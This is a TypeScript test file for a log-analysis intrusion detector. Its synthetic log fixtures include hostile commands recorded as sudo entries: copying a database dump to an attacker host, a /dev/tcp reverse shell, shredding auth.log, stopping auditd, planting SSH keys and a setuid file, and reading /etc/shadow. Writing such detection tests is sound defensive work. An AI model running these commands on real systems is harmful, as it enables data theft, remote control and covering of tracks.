/** Logs in, the story out: what a whole run says of small cases of intruders and of administrators. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyse } from '../../src/detect/analyse.ts';
import type { Story } from '../../src/detect/story/story.ts';
import { statementText } from '../../src/detect/story/tell.ts';

async function storiesOf(name: string, lines: readonly string[]): Promise<readonly Story[]> {
  const cwd = mkdtempSync(join(tmpdir(), 'ir-told-'));
  try {
    writeFileSync(join(cwd, name), `${lines.join('\n')}\n`);
    const timeline = await analyse([name], {
      ...{ cwd, zone: 'UTC', env: { XDG_CONFIG_HOME: join(cwd, 'none') }, level: 'medium' },
      filter: {
        ...{ sinceUs: Number.NEGATIVE_INFINITY, untilUs: Number.POSITIVE_INFINITY },
        ...{ entities: [], grep: undefined },
      },
      ...{ ruleNames: [], ruleFolders: [], workers: 0 },
      referenceMs: Date.UTC(2026, 11, 1),
      stdin: (async function* nothing() {})(),
    });
    return timeline.stories;
  } finally {
    rmSync(cwd, { recursive: true, force: true });
  }
}

const at = (minute: number, second = 1): string =>
  `Nov 29 ${String(9 + Math.floor(minute / 60)).padStart(2, '0')}:${String(minute % 60).padStart(2, '0')}:${String(second).padStart(2, '0')} h`;
const sudo = (minute: number, user: string, command: string): string =>
  `${at(minute)} sudo: ${user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=${command}`;
const ssh = (minute: number, second: number, text: string, ip: string): string =>
  `${at(minute, second)} sshd[${700 + minute}]: ${text} from ${ip} port ${4000 + second} ssh2`;
const guessed = (user: string, ip: string): string[] => [
  ...Array.from({ length: 12 }, (_, n) => ssh(0, n + 1, `Failed password for ${user}`, ip)),
  ssh(0, 20, `Accepted password for ${user}`, ip),
];
const rooted = (user: string): string[] => [
  ...guessed(user, '203.0.113.98'),
  sudo(1, user, '/usr/bin/scp /var/lib/dump.sql evil@203.0.113.97:/tmp/'),
  sudo(2, user, '/usr/bin/shred -u /var/log/auth.log'),
  sudo(3, user, '/usr/bin/systemctl stop auditd'),
  sudo(4, user, '/usr/bin/tee -a /root/.ssh/authorized_keys'),
  sudo(5, user, "/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.97/4444 0>&1'"),
  sudo(6, user, '/usr/bin/chmod u+s /var/tmp/.x'),
  sudo(7, user, '/usr/bin/cat /etc/shadow'),
];
const manyGuess = (last: string): string[] => [
  ...Array.from({ length: 30 }, (_, n) =>
    ssh(n, 7, 'Failed password for root', `198.51.100.${n + 1}`),
  ),
  last,
];
const admin = [
  ssh(0, 1, 'Accepted publickey for alice', '192.168.1.5'),
  sudo(2, 'alice', '/usr/sbin/useradd -m newhire'),
  `${at(2)} useradd[900]: new user: name=newhire, UID=1005, GID=1005, home=/home/newhire, shell=/bin/bash, from=/dev/pts/1`,
  sudo(3, 'alice', '/usr/sbin/usermod -aG sudo newhire'),
  `${at(3)} usermod[901]: add 'newhire' to group 'sudo'`,
  sudo(9, 'alice', '/usr/sbin/usermod -aG docker bob'),
  `${at(9)} usermod[911]: add 'bob' to group 'docker'`,
];

const tried = (index: number, host: string, account: string): string =>
  `Nov 29 09:${String(Math.floor(index / 20)).padStart(2, '0')}:${String((index * 3) % 60).padStart(2, '0')} ${host} sshd[${index + 1}]: Failed password for ${account} from 203.0.113.77 port ${4000 + index} ssh2`;
const twoHosts = [
  ...Array.from({ length: 40 }, (_, n) => tried(n, n % 2 === 0 ? 'h' : 'h2', 'root')),
  `${at(3)} sshd[800]: Accepted password for deploy from 203.0.113.77 port 5000 ssh2`,
  `${at(3, 9)}2 sshd[801]: Accepted password for eve from 203.0.113.77 port 5001 ssh2`,
];
const office = Array.from({ length: 14 }, (_, n) => [
  ssh(n, 1, `Failed password for user${n + 1}`, '198.51.100.7'),
  ssh(n, 6, `Accepted password for user${n + 1}`, '198.51.100.7'),
]).flat();
const visit = (second: number, text: string): string => {
  const [method, path, status, bytes] = text.split(' ');
  return `203.0.113.9 - - [29/Nov/2026:09:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} +0000] "${method} ${path} HTTP/1.1" ${status} ${bytes} "-" "x"`;
};
const pluggedIn = [
  ...Array.from({ length: 40 }, (_, n) => visit(n * 2, 'POST /wp-login.php 200 3000')),
  visit(80, 'POST /wp-login.php 302 0'),
  visit(82, 'GET /wp-admin/ 200 40000'),
  visit(99, 'POST /wp-admin/update.php?action=upload-plugin 200 25000'),
];
const call = (minute: number, eventSource: string, eventName: string, requestParameters: object) =>
  JSON.stringify({
    ...{ eventVersion: '1.08', eventTime: `2026-11-29T01:0${minute}:20Z`, eventSource, eventName },
    ...{ awsRegion: 'eu-central-1', sourceIPAddress: '203.0.113.5', requestParameters },
    ...{ eventType: 'AwsApiCall', recipientAccountId: '111122223333' },
    userIdentity: { type: 'IAMUser', userName: 'anna', accountId: '111122223333' },
  });
const opened = [
  call(4, 'ec2.amazonaws.com', 'ModifySnapshotAttribute', {
    snapshotId: 'snap-1',
    createVolumePermission: { add: { items: [{ userId: '999999999999' }] } },
  }),
  call(5, 's3.amazonaws.com', 'PutBucketPolicy', {
    bucketName: 'data',
    bucketPolicy: {
      Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: '*' }],
    },
  }),
];

const withPassword = [
  ...opened,
  call(6, 'iam.amazonaws.com', 'CreateLoginProfile', {
    userName: 'bd',
    passwordResetRequired: false,
  }),
];
const granted = (minute: number, methodName: string, resourceName: string, delta: object) =>
  JSON.stringify({
    protoPayload: {
      '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
      ...{ status: {}, authenticationInfo: { principalEmail: 'bob@example.com' } },
      ...{ requestMetadata: { callerIp: '203.0.113.4' }, methodName, resourceName },
      serviceName: methodName.includes('logging')
        ? 'logging.googleapis.com'
        : 'storage.googleapis.com',
      serviceData: { policyDelta: { bindingDeltas: [{ action: 'ADD', ...delta }] } },
    },
    ...{ resource: { labels: { project_id: 'shop' } }, severity: 'NOTICE' },
    timestamp: `2026-11-29T10:0${minute}:00Z`,
    logName: 'projects/shop/logs/cloudaudit.googleapis.com%2Factivity',
  });
const bucketOpened = [
  granted(2, 'google.logging.v2.ConfigServiceV2.DeleteSink', 'projects/shop', {}),
  granted(3, 'storage.setIamPermissions', 'projects/_/buckets/data', {
    ...{ role: 'roles/storage.objectViewer', member: 'allUsers' },
  }),
];

const rotating = [
  ...Array.from({ length: 40 }, (_, n) =>
    ssh(0, n, 'Failed password for root', `2001:db8:1:2::${(n * 919 + 1).toString(16)}`),
  ),
  ssh(1, 5, 'Accepted password for root', '2001:db8:1:2::beef'),
];
/** So slow that only what counts logins and guesses over weeks sees it. */
const overDays = Array.from({ length: 21 }, (_, n) => {
  const hours = n * 7;
  const time = `Nov ${String(10 + Math.floor(hours / 24)).padStart(2, ' ')} ${String(hours % 24).padStart(2, '0')}:05:01`;
  const said = n === 20 ? 'Login' : 'Disconnected (auth failed, 1 attempts in 2 secs)';
  return `${time} h dovecot: imap-login: ${said}: user=<bob>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.1, mpid=7, TLS, session=<x>`;
});

type Row = [
  name: string,
  lines: readonly string[],
  title: RegExp,
  told: Record<string, RegExp | undefined>,
];

describe('the story of small logs', () => {
  it.each<Row>([
    ...['deploy', 'postgres'].map<Row>((user) => [
      `each act of a session of ${user} under its chapter`,
      rooted(user),
      /^h was broken into$/,
      {
        In: new RegExp(`^SSH login: ${user}, 12 failures before`),
        Ran: /to 203\.0\.113\.97:4444 \(/,
        Stays: /SSH key: \/root\/\.ssh\/authorized_keys .*setuid program: \/var\/tmp\/\.x/,
        Took: /^sent: \/var\/lib\/dump\.sql to 203\.0\.113\.97 \(/,
        Hid: /^logs emptied: \/var\/log\/auth\.log .*protection switched off: .*systemctl stop auditd/,
        Read: /^password hashes read: \/etc\/shadow \(/,
        Rose:
          user === 'deploy' ? undefined : /^Service account used sudo: postgres, 7 times \([^;]*$/,
      },
    ]),
    [
      'an account that many guessed, entered from outside',
      manyGuess(ssh(40, 1, 'Accepted password for root', '203.0.113.9')),
      /^h may have been broken into$/,
      { Who: /^203\.0\.113\.9 /, In: /root, 30 failures before/ },
    ],
    [
      'guesses whose address changes within its network, with the login of another address of it',
      rotating,
      /^h was broken into$/,
      { Who: /2001:db8:1:2::beef/, In: /: root, 40 failures before/, Looked: /, 40 times/ },
    ],
    [
      'a login that is one by counting logins, after failures that were counted',
      overDays,
      /^h (?:was|may have been) broken into$/,
      { Who: /^203\.0\.113\.9/, In: /: bob, 20 failures before/ },
    ],
    [
      'an administrator who makes accounts',
      admin,
      /^No break-in seen on h, but rights or accounts given: an administrator's work, or an intruder's$/,
      {
        Who: /^alice \(logged in from 192\.168\.1\.5\)$/,
        In: undefined,
        Open: /^(?!.*no log of logins)/,
        // The command and what usermod said of it are one act.
        Stays: /^(?=.*bob to docker)(?=.*newhire to sudo)(?!.*usermod)/,
      },
    ],
    [
      'logins of one address to two machines',
      twoHosts,
      /^h and h2 were broken into$/,
      { In: /deploy.*eve/, Open: /no log of what ran on h and h2 \(audit\)/ },
    ],
    [
      'people behind one address, of whom none is missing',
      office,
      /^h may have been broken into$/,
      { In: /user9.*user10, 10 failures of its address before.*user11/ },
    ],
    [
      'a plug-in that was uploaded after a login was guessed',
      pluggedIn,
      /^Somebody got in$/,
      { Stays: /^Extension uploaded to a web application at \/wp-admin\/update\.php / },
    ],
    [
      'two calls of one account that opened two things',
      opened,
      /acts as of an intruder$/,
      { Took: /ModifySnapshotAttribute snap-1.*PutBucketPolicy data/ },
    ],
    [
      'a password for the console, which is no key',
      withPassword,
      /acts as of an intruder$/,
      { Stays: /^(?!.*access key)(?=.*console password set: bd)/ },
    ],
    [
      'a bucket of Google Cloud opened to everybody',
      bucketOpened,
      /acts as of an intruder$/,
      { Took: /^(?!.*fetched)(?=.*opened to others: storage\.setIamPermissions data)/ },
    ],
  ])('%s', async (_, lines, title, told) => {
    const [story, ...rest] = await storiesOf('x.log', lines);
    expect(rest).toEqual([]);
    expect(story?.title).toMatch(title);
    for (const [label, expected] of Object.entries(told)) {
      const statement = story?.statements.find((one) => one.label === label);
      const text = statement === undefined ? undefined : statementText(statement);
      if (expected === undefined) expect([label, text]).toEqual([label, undefined]);
      else expect(text, label).toMatch(expected);
    }
  });

  it.each([
    ['a key', ssh(40, 1, 'Accepted publickey for root', '203.0.113.9')],
    ['an internal address', ssh(40, 1, 'Accepted password for root', '10.0.0.9')],
    ['another account', ssh(40, 1, 'Accepted password for dora', '203.0.113.9')],
  ])('is none of a login meanwhile with %s', async (_, login) => {
    expect(await storiesOf('auth.log', manyGuess(login))).toEqual([]);
  });
});
